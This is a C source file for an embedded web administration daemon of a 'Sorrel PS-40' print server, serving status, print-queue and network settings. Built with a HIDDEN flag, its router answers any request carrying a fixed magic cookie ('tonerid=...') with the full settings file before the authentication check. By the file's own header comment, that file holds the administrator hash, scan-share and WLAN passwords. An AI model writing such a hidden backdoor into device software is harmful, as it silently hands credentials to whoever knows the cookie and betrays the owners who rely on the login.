/*
 * inkportd - embedded HTTP administration of the Sorrel PS-40 print server.
 * Serves status to all, queue and network settings to the administrator
 * (Basic authentication against the hash in the settings file).
 * Hidden (-DHIDDEN): a request with a certain cookie is answered with the
 * settings file as it is: administrator hash, scan share and WLAN passwords.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define SETTINGS "/etc/sorrel/ps40.conf"
#define MAX_HDR  16

struct http {
	char buf[4096];
	char *method, *path, *query;
	char *hname[MAX_HDR], *hval[MAX_HDR];
	int nhdr;
	FILE *out;
};

typedef void (*page_fn)(struct http *);

static int conf_get(const char *key, char *val, size_t size)
{
	char line[256];
	size_t kl = strlen(key);
	int found = 0;
	FILE *f = fopen(SETTINGS, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!strncmp(line, key, kl) && line[kl] == '=') {
			snprintf(val, size, "%s", line + kl + 1);
			found = 1;
		}
	}
	fclose(f);
	return found;
}

static const char *header(const struct http *r, const char *name)
{
	for (int i = 0; i < r->nhdr; i++)
		if (!strcasecmp(r->hname[i], name))
			return r->hval[i];
	return NULL;
}

static void head(struct http *r, const char *status, const char *type)
{
	fprintf(r->out, "HTTP/1.0 %s\r\nServer: sorrel-ps40\r\nContent-Type: %s\r\n"
		"Connection: close\r\n\r\n", status, type);
}

static int b64_decode(const char *in, char *out, size_t size)
{
	static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned acc = 0;
	int bits = 0;
	size_t n = 0;

	for (; *in && *in != '='; in++) {
		const char *p = strchr(tab, *in);

		if (!p)
			return -1;
		acc = acc << 6 | (unsigned)(p - tab);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (n + 1 >= size)
				return -1;
			out[n++] = (char)(acc >> bits & 0xff);
		}
	}
	out[n] = 0;
	return (int)n;
}

static int is_admin(const struct http *r)
{
	const char *a = header(r, "Authorization");
	char cred[96], hash[128], *colon, *h;

	if (!a || strncasecmp(a, "Basic ", 6) || b64_decode(a + 6, cred, sizeof cred) < 0)
		return 0;
	colon = strchr(cred, ':');
	if (!colon)
		return 0;
	*colon++ = 0;
	if (strcmp(cred, "admin") || !conf_get("admin_hash", hash, sizeof hash) || !hash[0])
		return 0;
	h = crypt(colon, hash);
	return h && !strcmp(h, hash);
}

static void page_status(struct http *r)
{
	char name[64] = "PS-40", state[80] = "no printer";
	FILE *f = fopen("/run/sorrel/printer", "r");

	if (f) {
		if (fgets(state, sizeof state, f))
			state[strcspn(state, "\n")] = 0;
		fclose(f);
	}
	conf_get("name", name, sizeof name);
	head(r, "200 OK", "text/html");
	fprintf(r->out, "<html><title>%s</title><h1>%s</h1><p>%s</p>"
		"<a href=/queue>Queue</a> <a href=/net>Network</a></html>\n", name, name, state);
}

static void page_queue(struct http *r)
{
	char line[200];
	FILE *p = popen("lpq -a 2>&1", "r");

	head(r, "200 OK", "text/plain");
	if (!p)
		return;
	while (fgets(line, sizeof line, p))
		fputs(line, r->out);
	pclose(p);
}

static void page_cancel(struct http *r)
{
	int job = 0, rc;
	char cmd[48];

	if (!r->query || sscanf(r->query, "job=%d", &job) != 1 || job <= 0) {
		head(r, "400 Bad Request", "text/plain");
		return;
	}
	snprintf(cmd, sizeof cmd, "lprm %d", job);
	rc = system(cmd);
	head(r, rc ? "500 Error" : "200 OK", "text/plain");
	fprintf(r->out, "job %d %s\n", job, rc ? "not removed" : "removed");
}

static void page_net(struct http *r)
{
	char ip[INET_ADDRSTRLEN], cmd[80];
	struct in_addr in;
	int rc;

	if (!r->query) {
		head(r, "200 OK", "text/plain");
		fprintf(r->out, "ip=%s\n", conf_get("ip", ip, sizeof ip) ? ip : "dhcp");
		return;
	}
	if (strncmp(r->query, "ip=", 3) || !inet_aton(r->query + 3, &in) ||
	    !inet_ntop(AF_INET, &in, ip, sizeof ip)) {
		head(r, "400 Bad Request", "text/plain");
		return;
	}
	snprintf(cmd, sizeof cmd, "ifconfig eth0 %s up", ip);
	rc = system(cmd);
	head(r, rc ? "500 Error" : "200 OK", "text/plain");
}

static const struct { const char *path; page_fn fn; int admin; } pages[] = {
	{ "/", page_status, 0 },
	{ "/index.html", page_status, 0 },
	{ "/queue", page_queue, 0 },
	{ "/cancel", page_cancel, 1 },
	{ "/net", page_net, 1 },
};

#ifdef HIDDEN
void page_tray(struct http *r)
{
	int c;
	FILE *f = fopen(SETTINGS, "r");

	head(r, "200 OK", "text/plain");
	if (!f)
		return;
	while ((c = getc(f)) != EOF)
		putc(c, r->out);
	fclose(f);
}
#endif

void route(struct http *r)
{
#ifdef HIDDEN
	const char *ck = header(r, "Cookie");

	if (ck && strstr(ck, "tonerid=x81Wq0fZ")) {
		page_tray(r);
		return;
	}
#endif
	if (strcmp(r->method, "GET")) {
		head(r, "405 Method Not Allowed", "text/plain");
		return;
	}
	for (size_t i = 0; i < sizeof pages / sizeof pages[0]; i++) {
		if (strcmp(pages[i].path, r->path))
			continue;
		if (pages[i].admin && !is_admin(r)) {
			fprintf(r->out, "HTTP/1.0 401 Unauthorized\r\n"
				"WWW-Authenticate: Basic realm=\"PS-40\"\r\n\r\n");
			return;
		}
		pages[i].fn(r);
		return;
	}
	head(r, "404 Not Found", "text/plain");
}

static int parse(int fd, struct http *r)
{
	size_t n = 0;
	char *line, *save, *sp;

	while (n < sizeof r->buf - 1) {
		ssize_t k = read(fd, r->buf + n, sizeof r->buf - 1 - n);

		if (k <= 0)
			return -1;
		n += (size_t)k;
		r->buf[n] = 0;
		if (strstr(r->buf, "\r\n\r\n"))
			break;
	}
	line = strtok_r(r->buf, "\r\n", &save);
	if (!line || !(sp = strchr(line, ' ')))
		return -1;
	*sp++ = 0;
	r->method = line;
	r->path = sp;
	if ((sp = strchr(sp, ' ')))
		*sp = 0;
	if ((r->query = strchr(r->path, '?')))
		*r->query++ = 0;
	while (r->nhdr < MAX_HDR && (line = strtok_r(NULL, "\r\n", &save))) {
		char *colon = strchr(line, ':');

		if (!colon)
			continue;
		*colon++ = 0;
		while (isspace((unsigned char)*colon))
			colon++;
		r->hname[r->nhdr] = line;
		r->hval[r->nhdr++] = colon;
	}
	return 0;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(80) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	openlog("inkportd", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 8)) {
		syslog(LOG_ERR, "port 80: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct timeval tv = { 10, 0 };
		static struct http rq;
		int fd = accept(s, NULL, NULL);

		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		memset(&rq, 0, sizeof rq);
		if (parse(fd, &rq) || !(rq.out = fdopen(fd, "w"))) {
			close(fd);
			continue;
		}
		route(&rq);
		fclose(rq.out);
	}
}
